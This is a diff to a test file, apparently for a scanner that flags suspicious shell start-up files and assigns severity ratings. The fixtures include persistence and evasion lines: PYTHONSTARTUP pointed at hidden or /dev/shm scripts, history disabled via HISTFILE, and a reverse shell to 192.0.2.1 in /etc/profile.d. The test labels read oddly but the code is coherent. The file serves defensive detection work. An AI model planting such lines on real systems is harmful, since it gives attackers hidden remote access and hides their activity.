@@ -27,7 +27,14 @@ test("people's own ways", () => {
 	).toEqual([]);
 });
 
+test("a start-up file of one's own that borrowed dot files name and that is not there", () => {
+	expect(ask({ '/home/ann/.bashrc': own('export PYTHONSTARTUP=~/.pythonrc\nexport BASH_ENV="$HOME/.bash_env"\nexport ENV=/home/ann/.shrc\n') })).toEqual([]);
+});
+
 test.each<[string, Machine, string[]]>([
+	['a start-up file that lay deeper in hidden places and is gone', { '/home/ann/.bashrc': own('export PYTHONSTARTUP=~/.gnome/.p.py\n') }, ['medium /home/ann/.bashrc']],
+	['a start-up file that lay in shared memory and is gone', { '/home/ann/.bashrc': own('export PYTHONSTARTUP=/dev/shm/.p.py\n') }, ['high /home/ann/.bashrc']],
+	['a hidden shell that is gone', { '/home/ann/.bashrc': own('export SHELL=~/.sh\n') }, ['medium /home/ann/.bashrc']],
 	['no history is kept', { '/root/.bashrc': 'unset HISTFILE\n' }, ['medium /root/.bashrc']],
 	['no history of anybody', { '/etc/profile.d/gawk.sh': 'export HISTFILE=/dev/null\n' }, ['medium /etc/profile.d/gawk.sh']],
 	['a shell is handed out at each login', { '/etc/profile.d/x.sh': '(bash -i >& /dev/tcp/192.0.2.1/4 0>&1 &)\n' }, ['critical /etc/profile.d/x.sh']],
